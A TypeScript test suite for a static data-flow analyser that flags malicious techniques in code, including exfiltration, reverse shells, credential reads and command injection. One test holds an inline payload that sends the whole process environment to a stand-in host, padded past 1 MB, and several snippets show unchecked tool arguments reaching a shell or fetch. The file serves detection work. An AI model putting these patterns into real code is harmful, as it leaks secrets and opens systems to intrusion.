import { readFileSync, readdirSync, statSync } from "node:fs";
import { join, relative } from "node:path";
import { analyzeRepository } from "../../src/governance/dataflow/analyze";
import { atLeast, type Finding } from "../../src/governance/findings";

const CODE = join(__dirname, "../fixtures/governance/code");

function walk(dir: string): string[] {
  return readdirSync(dir).flatMap((n) => (statSync(join(dir, n)).isDirectory() ? walk(join(dir, n)) : [join(dir, n)]));
}

function analyzeDir(dir: string, only?: string[]): Finding[] {
  const files = (only ?? walk(dir).map((f) => relative(dir, f))).filter((f) => /\.(ts|js|mjs|cjs|py)$/.test(f));
  return analyzeRepository(files, (f) => readFileSync(join(dir, f), "utf8"));
}

/** One technique per fixture: the rule that must fire, at high, in which file ("" = the fixture itself). */
const MALICIOUS: [file: string, rule: string, where: string][] = [
  ["js-env-alias-exfil.ts", "flow/exfiltration", ""],
  ["js-cred-joined-path.ts", "flow/exfiltration", ""],
  ["js-ssh-dir-listing.js", "flow/credential-read", ""],
  ["js-destructured-rename.js", "flow/command-injection", ""],
  ["js-global-eval-concat.js", "flow/obfuscated-access", ""],
  ["js-vm-computed.ts", "flow/code-injection", ""],
  ["js-new-function.ts", "flow/code-injection", ""],
  ["js-reverse-shell.js", "flow/reverse-shell", ""],
  ["js-data-url-import.mjs", "flow/data-url-import", ""],
  ["js-dns-exfil.ts", "flow/dns-exfiltration", ""],
  ["js-ts-import-alias.ts", "flow/command-injection", ""],
  ["js-authorized-keys.js", "flow/persistence", ""],
  ["js-spawn-bash-c.ts", "flow/command-injection", ""],
  ["js-env-harvest.js", "flow/exfiltration", ""],
  ["js-cross-file-helper.ts", "flow/command-injection", "js-cross-file-lib.ts"],
  ["py-env-alias-exfil.py", "flow/exfiltration", ""],
  ["py-pathlib-credentials.py", "flow/exfiltration", ""],
  ["py-glob-ssh.py", "flow/credential-read", ""],
  ["py-dunder-import.py", "flow/command-injection", ""],
  ["py-getattr-concat.py", "flow/obfuscated-access", ""],
  ["py-bash-c-list.py", "flow/command-injection", ""],
  ["py-pickle-alias.py", "flow/unsafe-deserialization", ""],
  ["py-builtins-eval.py", "flow/code-injection", ""],
  ["py-exec-compile.py", "flow/obfuscated-code", ""],
  ["py-environ-posted.py", "flow/exfiltration", ""],
  ["py-authorized-keys.py", "flow/persistence", ""],
  ["py-importlib-dynamic.py", "flow/dynamic-import", ""],
  ["py-dns-exfil.py", "flow/dns-exfiltration", ""],
  ["py-reverse-shell.py", "flow/reverse-shell", ""],
  ["py-yaml-load.py", "flow/unsafe-deserialization", ""],
  ["py-lowlevel-server.py", "flow/command-injection", ""],
  ["py-cross-file-tool.py", "flow/command-injection", "py_cross_file_util.py"],
];

describe("data-flow analysis: techniques attackers use", () => {
  const all = analyzeDir(join(CODE, "malicious"));

  test("every malicious fixture has an expectation", () => {
    const files = readdirSync(join(CODE, "malicious")).filter((f) => f !== "js-cross-file-lib.ts" && f !== "py_cross_file_util.py");
    expect(files.sort()).toEqual(MALICIOUS.map(([f]) => f).sort());
  });

  test.each(MALICIOUS)("when %s is analysed, then %s is reported as high or critical", (file, rule, where) => {
    const hit = all.find((f) => f.file === (where || file) && f.ruleId === rule);
    expect(hit).toBeDefined();
    expect(atLeast(hit!.severity, "high")).toBe(true);
    expect(hit!.line).toBeGreaterThan(0);
  });

  test("when a tool argument reaches a sink, then the finding names the path from the handler to the sink", () => {
    const hit = all.find((f) => f.file === "py-bash-c-list.py" && f.ruleId === "flow/command-injection")!;
    expect(hit.message).toMatch(/tool argument of build \(py-bash-c-list\.py:\d+\) → parameter target .* → subprocess\.run \(py-bash-c-list\.py:\d+\)/);
  });

  test("when a helper module (JS or Python) is analysed alone, then its parameter reaches the shell only as medium; the tool call from the other file makes it high", () => {
    const alone = analyzeDir(join(CODE, "malicious"), ["js-cross-file-lib.ts"]);
    expect(alone.find((f) => f.ruleId === "flow/command-injection")?.severity).toBe("medium");
    const both = all.find((f) => f.file === "js-cross-file-lib.ts" && f.ruleId === "flow/command-injection")!;
    expect(both.message).toContain("js-cross-file-helper.ts");
    const pyAlone = analyzeDir(join(CODE, "malicious"), ["py_cross_file_util.py"]);
    expect(pyAlone.find((f) => f.ruleId === "flow/command-injection")?.severity).toBe("medium");
    expect(all.find((f) => f.file === "py_cross_file_util.py" && f.ruleId === "flow/command-injection")!.message).toContain("py-cross-file-tool.py");
  });
});

describe("data-flow analysis: real and ordinary code stays clean", () => {
  test("when the benign patterns are analysed (URLs to public APIs built from arguments, keys from the environment, validated shell values), then nothing is medium or worse", () => {
    expect(analyzeDir(join(CODE, "benign")).filter((f) => atLeast(f.severity, "medium"))).toEqual([]);
  });

  test("when vendored reference servers are analysed, then nothing is high; the fetch server's arbitrary URLs are medium SSRF, which is its job", () => {
    const findings = analyzeDir(join(CODE, "real"));
    expect(findings.filter((f) => atLeast(f.severity, "high"))).toEqual([]);
    expect(findings.filter((f) => f.severity === "medium").map((f) => `${f.file}:${f.ruleId}`)).toEqual(expect.arrayContaining(["fetch/server.py:flow/ssrf"]));
    expect(findings.filter((f) => f.severity === "medium" && !f.file!.startsWith("fetch/"))).toEqual([]);
  });

  test.each([
    ["constant command", "js", "import { execSync } from 'node:child_process'; execSync('git rev-parse HEAD');"],
    ["argv without a shell", "js", "import { execFile } from 'node:child_process'; export const f = (ref: string) => execFile('git', ['log', ref]);"],
    ["fixed require", "js", "const fs = require('node:fs'); fs.readFileSync('package.json');"],
    ["literal fetch", "js", "await fetch('https://api.example.com/items');"],
    ["one env variable as a header", "js", "await fetch('https://api.example.com/x', { headers: { authorization: process.env.API_KEY } });"],
    ["constant eval", "js", "eval('1 + 1');"],
    ["subprocess with a list", "py", "import subprocess\ndef f(path):\n    subprocess.run(['ls', path])\n"],
    ["safe yaml", "py", "import yaml\ndef f(t):\n    return yaml.load(t, Loader=yaml.SafeLoader)\n"],
    ["constant shell=True", "py", "import subprocess\nsubprocess.run('git fetch', shell=True)\n"],
    ["reading a config file", "py", "import json\ncfg = json.load(open('config.json'))\n"],
  ])("when code has %s, then no flow is reported", (_label, lang, code) => {
    const file = lang === "js" ? "src/a.ts" : "a.py";
    expect(analyzeRepository([file], () => code).filter((f) => atLeast(f.severity, "medium"))).toEqual([]);
  });
});

describe("data-flow analysis: allow-list checks", () => {
  const flows = (file: string, code: string) => analyzeRepository([file], () => code).filter((f) => atLeast(f.severity, "medium") && f.ruleId.startsWith("flow/"));

  test("when a Python argument is checked against a constant allow-list before the shell, then no flow; against a caller's list, still a flow", () => {
    const guarded = 'import subprocess\nALLOWED = {"uptime", "df"}\n@mcp.tool()\ndef run(cmd: str) -> str:\n    if cmd not in ALLOWED:\n        raise ValueError("no")\n    return subprocess.run([cmd], capture_output=True).stdout\n';
    expect(flows("s.py", guarded)).toEqual([]);
    const open = 'import subprocess\n@mcp.tool()\ndef run(cmd: str) -> str:\n    return subprocess.run([cmd], capture_output=True).stdout\n';
    expect(flows("s.py", open).map((f) => f.ruleId)).toContain("flow/command-injection");
    const theirs = 'import subprocess\n@mcp.tool()\ndef run(cmd: str, allowed: list) -> str:\n    if cmd not in allowed:\n        raise ValueError("no")\n    return subprocess.run([cmd], capture_output=True).stdout\n';
    expect(flows("s.py", theirs).map((f) => f.ruleId)).toContain("flow/command-injection");
  });

  test("when a URL's host is checked against an allow-list before fetch, then no SSRF flow; without the check, a flow", () => {
    const guarded = 'const HOSTS = new Set(["docs.python.org"]);\nserver.tool("get", "d", {}, async ({ url }) => {\n  const u = new URL(url);\n  if (!HOSTS.has(u.hostname)) throw new Error("no");\n  return fetch(u);\n});\n';
    expect(flows("s.ts", guarded)).toEqual([]);
    const open = 'server.tool("get", "d", {}, async ({ url }) => {\n  const u = new URL(url);\n  return fetch(u);\n});\n';
    expect(flows("s.ts", open).map((f) => f.ruleId)).toContain("flow/ssrf");
  });
});

describe("data-flow analysis: bounded work", () => {
  test("when a payload is padded past 1 MB, then it is still found, in bounded time", () => {
    const padding = Array.from({ length: 30_000 }, (_, i) => `const pad${i} = "${"x".repeat(20)}" + ${i};`).join("\n");
    const code = `${padding}\nconst e = process.env;\nfetch("https://collector.example/e", { method: "POST", body: JSON.stringify(e) });\n`;
    expect(code.length).toBeGreaterThan(1024 * 1024);
    const started = Date.now();
    const findings = analyzeRepository(["src/big.js"], () => code);
    expect(findings.find((f) => f.ruleId === "flow/exfiltration")).toMatchObject({ severity: "high", line: 30_002 });
    expect(Date.now() - started).toBeLessThan(20_000);
  });

  test("when a file exhausts its budget, then it is reported as not fully analysed instead of hanging", () => {
    const code = Array.from({ length: 2000 }, (_, i) => `f${i}(${i});`).join("\n");
    const findings = analyzeRepository(["src/a.js"], () => code, { maxSteps: 500 });
    expect(findings).toEqual([expect.objectContaining({ ruleId: "flow/analysis-incomplete", severity: "medium", file: "src/a.js" })]);
  });

  test("when functions call each other recursively, then the analysis terminates", () => {
    const code = "function a(x) { return b(x); }\nfunction b(y) { return a(y) + require('child_process').execSync(y); }\nserver.tool('t', 'd', {}, async ({ q }) => a(q));\n";
    const findings = analyzeRepository(["src/r.js"], () => code);
    expect(findings.find((f) => f.ruleId === "flow/command-injection")?.severity).toBe("critical");
  });
});
